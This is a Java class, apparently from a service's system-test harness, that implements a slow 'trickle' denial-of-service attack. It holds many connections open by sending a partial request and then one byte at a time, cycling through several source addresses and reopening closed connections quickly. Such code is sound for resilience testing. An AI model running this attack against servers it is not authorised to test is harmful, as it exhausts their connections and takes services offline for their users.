package io.soundlift.system;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.Supplier;

/**
 * Many connections that send the beginning of a request and then a byte now and then. A
 * connection that the server closes is opened again, as fast as {@value #PER_SECOND} in a
 * second allow: attackers from elsewhere take none of the services' processors.
 */
final class TrickleAttack implements Attack {

	private static final int PER_SECOND = 2000;

	private static final Duration ROUND = Duration.ofMillis(50);

	private static final int CONNECTIONS_PER_ROUND = (int) (PER_SECOND * ROUND.toMillis() / 1000);

	private final List<InetAddress> sources;

	private final InetSocketAddress target;

	private final int connections;

	private final Supplier<String> opening;

	private final Duration interval;

	private final ByteBuffer answer = ByteBuffer.allocate(4096);

	private int begun;

	private int opened;

	private int refused;

	private int closed;

	private int mostOpen;

	/**
	 * Creates an attack.
	 * @param sources addresses that connections come from, in turn
	 * @param target address that is attacked
	 * @param connections number of connections that are open at the same time, if the
	 * server lets them
	 * @param opening supplier of what a connection sends at first
	 * @param interval time between two bytes
	 */
	TrickleAttack(List<InetAddress> sources, InetSocketAddress target, int connections, Supplier<String> opening,
			Duration interval) {
		this.sources = List.copyOf(sources);
		this.target = target;
		this.connections = connections;
		this.opening = opening;
		this.interval = interval;
	}

	@Override
	public String run(Duration duration) throws InterruptedException {
		long end = System.nanoTime() + duration.toNanos();
		try (Selector selector = Selector.open()) {
			try {
				long nextByte = System.nanoTime() + this.interval.toNanos();
				for (long next = System.nanoTime(); System.nanoTime() < end; next += ROUND.toNanos()) {
					connect(selector);
					handleUntil(next + ROUND.toNanos(), selector);
					if (System.nanoTime() >= nextByte) {
						openConnections(selector).forEach(this::sendByte);
						nextByte = System.nanoTime() + this.interval.toNanos();
					}
				}
			}
			finally {
				for (SelectionKey key : List.copyOf(selector.keys())) {
					key.channel().close();
				}
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return "%d connections, up to %d at once, %d closed by the server, %d refused".formatted(this.opened,
				this.mostOpen, this.closed, this.refused);
	}

	private void connect(Selector selector) throws IOException {
		int missing = this.connections - selector.keys().size();
		for (int i = 0; i < Math.min(missing, CONNECTIONS_PER_ROUND); i++) {
			SocketChannel channel = SocketChannel.open();
			channel.configureBlocking(false);
			channel.bind(new InetSocketAddress(this.sources.get(this.begun++ % this.sources.size()), 0));
			channel.connect(this.target);
			channel.register(selector, SelectionKey.OP_CONNECT);
		}
	}

	private void handleUntil(long end, Selector selector) throws IOException, InterruptedException {
		for (long left = end - System.nanoTime(); left > 0; left = end - System.nanoTime()) {
			if (Thread.interrupted()) {
				throw new InterruptedException();
			}
			selector.select(Math.max(1, TimeUnit.NANOSECONDS.toMillis(left)));
			handle(selector);
		}
		this.mostOpen = Math.max(this.mostOpen, openConnections(selector).size());
	}

	private void handle(Selector selector) {
		for (Iterator<SelectionKey> keys = selector.selectedKeys().iterator(); keys.hasNext();) {
			SelectionKey key = keys.next();
			keys.remove();
			if (key.isValid() && key.isConnectable()) {
				begin(key);
			}
			else if (key.isValid() && key.isReadable()) {
				read(key);
			}
		}
	}

	private void begin(SelectionKey key) {
		SocketChannel channel = (SocketChannel) key.channel();
		try {
			channel.finishConnect();
			this.opened++;
			channel.write(ByteBuffer.wrap(this.opening.get().getBytes(StandardCharsets.US_ASCII)));
			key.interestOps(SelectionKey.OP_READ);
		}
		catch (IOException ex) {
			this.refused++;
			close(key);
		}
	}

	private void read(SelectionKey key) {
		try {
			this.answer.clear();
			if (((SocketChannel) key.channel()).read(this.answer) >= 0) {
				return;
			}
		}
		catch (IOException ex) {
			// closed with a reset
		}
		this.closed++;
		close(key);
	}

	private void sendByte(SelectionKey key) {
		try {
			((SocketChannel) key.channel()).write(ByteBuffer.wrap(new byte[] { 'a' }));
		}
		catch (IOException ex) {
			this.closed++;
			close(key);
		}
	}

	private static List<SelectionKey> openConnections(Selector selector) {
		List<SelectionKey> open = new ArrayList<>();
		for (SelectionKey key : selector.keys()) {
			if (key.isValid() && key.interestOps() == SelectionKey.OP_READ) {
				open.add(key);
			}
		}
		return open;
	}

	private static void close(SelectionKey key) {
		try {
			key.cancel();
			key.channel().close();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

}
